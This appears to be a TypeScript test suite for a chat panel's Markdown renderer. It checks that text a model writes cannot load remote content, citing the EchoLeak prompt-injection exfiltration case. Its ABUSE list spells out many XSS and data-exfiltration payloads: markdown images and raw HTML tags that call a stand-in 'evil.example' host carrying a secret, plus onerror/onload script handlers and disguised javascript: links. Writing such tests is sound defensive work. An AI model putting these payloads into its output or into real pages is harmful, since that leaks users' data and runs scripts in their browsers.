import type { Citation } from "@parlor/chat-client";
import { describe, expect, test, vi } from "vitest";

import { CitationsContext } from "../src/panel/markdown/citations";
import { Markdown } from "../src/panel/markdown/Markdown";
import { render } from "./render";

/** Every element that could load something, and every attribute that could. */
const LOADING = "img,picture,source,svg,image,video,audio,track,iframe,frame,object,embed,link,style,script,base,meta,form,portal,math";
const ALLOWED_ATTRIBUTES = new Set([
  "class", "href", "target", "rel", "type", "disabled", "checked", "aria-label", "start", "align", "role", "tabindex", "dir",
]);

function dangers(box: HTMLElement): string[] {
  const found = [...box.querySelectorAll(LOADING)].map((element) => `<${element.localName}>`);
  for (const element of box.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (!ALLOWED_ATTRIBUTES.has(name)) found.push(`${element.localName}[${name}]`);
      if (name === "href" && !/^(https?:\/\/|mailto:)/.test(value)) found.push(`href=${value}`);
    }
  }
  return found;
}

async function show(text: string, growing = false): Promise<HTMLElement> {
  return (await render(<Markdown text={text} growing={growing} />)).box;
}

const EVIL = "https://evil.example/?q=SECRET";

/** EchoLeak (CVE-2025-32711) and its relatives: whatever the model writes, showing it loads nothing. */
const ABUSE: [string, string][] = [
  ["inline image", `![x](${EVIL})`],
  ["inline image with title", `![x](<${EVIL}> "t")`],
  ["reference image", `![x][r]\n\n[r]: ${EVIL}`],
  ["collapsed reference image", `![r][]\n\n[r]: ${EVIL}`],
  ["shortcut reference image", `![r]\n\n[r]: <${EVIL}>`],
  ["image in a link", `[![x](${EVIL})](https://a.example)`],
  ["image in an image", `![a ![b](${EVIL}) c](${EVIL})`],
  ["image in a heading, list, quote and table", `# ![x](${EVIL})\n\n- ![x](${EVIL})\n\n> ![x](${EVIL})\n\n| ![x](${EVIL}) |\n|---|\n| ![x](${EVIL}) |`],
  ["data image", "![x](data:image/svg+xml;base64,PHN2Zz4=)"],
  ["protocol-relative image", "![x](//evil.example/q)"],
  ["relative image", "![x](/api/session?q=SECRET)"],
  ["entity-encoded image", `!&#91;x](${EVIL}) &lt;img src=${EVIL}&gt;`],
  ["raw img", `<img src="${EVIL}">`],
  ["raw img inside a line", `before <img src=${EVIL} onerror=alert(1)> after`],
  ["raw block HTML", `<div style="background:url(${EVIL})"><iframe src="${EVIL}"></iframe></div>`],
  ["raw media", `<video src=${EVIL} poster=${EVIL}></video><audio src=${EVIL}></audio><object data=${EVIL}></object><embed src=${EVIL}>`],
  ["raw svg", `<svg onload=alert(1)><image href="${EVIL}"/><use href="${EVIL}"/></svg>`],
  ["raw style, link, meta, base", `<style>@import url(${EVIL});</style><link rel=stylesheet href=${EVIL}><meta http-equiv=refresh content="0;url=${EVIL}"><base href=${EVIL}>`],
  ["raw script", `<script src="${EVIL}"></script>`],
  ["raw form", `<form action=${EVIL}><input type=image src=${EVIL}></form>`],
  ["raw anchor with ping", `<a href="https://a.example" ping="${EVIL}">x</a>`],
  ["javascript link", "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](&#106;avascript:alert(1)) <javascript:alert(1)>"],
  ["javascript link with control characters", "[x](java\tscript:alert(1)) [y](\u0001javascript:alert(1))"],
  ["data, vbscript, file, blob links", "[a](data:text/html,x) [b](vbscript:x) [c](file:///etc/passwd) [d](blob:https://a/b)"],
  ["relative and fragment links", "[a](/logout) [b](./x) [c](#f) [d](//evil.example) [e](?q)"],
  ["reference link to javascript", "[x][r]\n\n[r]: javascript:alert(1)"],
  ["footnote", `a[^1]\n\n[^1]: ![x](${EVIL})`],
  ["comment, CDATA, processing instruction", `<!-- ${EVIL} --><![CDATA[<img src=${EVIL}>]]><?xml-stylesheet href="${EVIL}"?>`],
];

describe("what a model writes can load nothing", () => {
  test.each(ABUSE)("%s", async (_, text) => {
    expect(dangers(await show(text))).toEqual([]);
    expect(dangers(await show(text, true))).toEqual([]);
  });

  test.each(ABUSE)("%s, split over tokens at every character", async (_, text) => {
    const { box, update } = await render(null);
    for (let end = 1; end <= text.length; end += 1) {
      await update(<Markdown text={text.slice(0, end)} growing />);
      expect(dangers(box), text.slice(0, end)).toEqual([]);
    }
  });

  test("an image becomes its description, and HTML the characters that were written", async () => {
    expect((await show(`See ![the plan](${EVIL}).`)).textContent).toBe("See the plan.");
    expect((await show("Use `Vec<u8>` or <b>bold</b>.")).textContent).toBe("Use Vec<u8> or <b>bold</b>.");
  });
});

describe("links", () => {
  test("web and mail addresses open in a new tab and tell nothing", async () => {
    const box = await show("[a](https://a.example/x) http://b.example <mail@c.example>");
    const links = [...box.querySelectorAll("a")];
    expect(links.map((link) => link.getAttribute("href"))).toEqual(["https://a.example/x", "http://b.example/", "mailto:mail@c.example"]);
    for (const link of links) {
      expect(link.getAttribute("target")).toBe("_blank");
      expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow ugc");
    }
  });

  test("any other link is its text", async () => {
    const box = await show("[go](javascript:alert(1)) [there](/admin)");
    expect(box.querySelector("a")).toBeNull();
    expect(box.textContent).toBe("go there");
  });
});

describe("citations", () => {
  const citation: Citation = { marker: 1, documentId: "doc_1", chunkId: "chk_1", title: "Guide", heading: null, page: null, url: null, quote: "q", before: "", after: "" };

  test("a known marker is a button that opens its passage; others stay text", async () => {
    const open = vi.fn();
    const { box } = await render(
      <CitationsContext.Provider value={{ citations: [citation], open }}>
        <Markdown text={"Two days [1]. See **this**[1], [2] and `a[1]` and [1](https://a.example)."} growing={false} />
      </CitationsContext.Provider>,
    );
    const buttons = [...box.querySelectorAll("button")];
    expect(buttons.map((button) => button.getAttribute("aria-label"))).toEqual(["Source 1: Guide", "Source 1: Guide"]);
    expect(box.textContent).toContain("[2] and a[1] and 1");
    buttons[0]?.click();
    expect(open).toHaveBeenCalledWith(citation);
  });
});

test("markup that is not finished yet does not show its marks", async () => {
  for (const [text, shown] of [["It is **very imp", "It is very imp"], ["Run `npm", "Run npm"], ["See [our pa", "See our pa"], ["See [page](https://a.ex", "See page"]]) {
    expect((await show(text!, true)).textContent.trim()).toBe(shown);
  }
});
